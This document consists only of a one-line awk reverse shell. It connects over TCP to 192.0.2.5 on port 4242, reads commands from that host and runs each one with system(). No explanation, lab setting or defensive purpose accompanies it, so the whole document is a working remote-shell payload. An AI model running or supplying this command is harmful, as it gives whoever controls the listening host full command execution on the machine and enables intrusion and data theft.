awk -v h=192.0.2.5 'BEGIN{s="/inet/tcp/0/" h "/4242"; while(s |& getline c) { system(c) }}'
